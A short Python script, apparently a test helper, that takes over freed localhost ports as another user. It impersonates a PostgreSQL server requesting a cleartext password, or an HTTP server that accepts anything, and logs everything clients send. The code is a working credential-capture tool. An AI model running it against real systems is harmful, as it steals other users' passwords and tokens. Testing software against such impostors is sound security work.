"""Listens on ports like a server and writes down what it is sent: `python squatter.py USER FILE PORT...`.

Becomes the user of that number, takes each port as soon as it is free and says "took PORT". To whoever connects it plays the server that is expected: PostgreSQL
that wants the password in clear, or an HTTP server that says yes.
"""

import os
import socket
import sys
import threading
import time
from pathlib import Path

_PASSWORD_IN_CLEAR = b"R\x00\x00\x00\x08\x00\x00\x00\x03"
_YES = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"


def squat(port: int, file: Path) -> None:
    while True:
        listening = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listening.bind(("127.0.0.1", port))
            listening.listen()
        except OSError:
            listening.close()
            time.sleep(0.01)
            continue
        break
    sys.stdout.write(f"took {port}\n")
    sys.stdout.flush()
    while True:
        connection, _ = listening.accept()
        threading.Thread(target=hear, args=(connection, file), daemon=True).start()


def hear(connection: socket.socket, file: Path) -> None:
    with connection:
        connection.settimeout(30)
        try:
            while heard := connection.recv(65536):
                with file.open("ab") as written:
                    written.write(heard)
                is_http = heard[:4] in {b"GET ", b"POST"}
                connection.sendall(_YES if is_http else _PASSWORD_IN_CLEAR)
        except OSError:
            return


def main(user: str, file: str, *ports: str) -> None:
    os.setgroups([])
    os.setgid(int(user))
    os.setuid(int(user))
    for port in ports:
        threading.Thread(target=squat, args=(int(port), Path(file)), daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:])
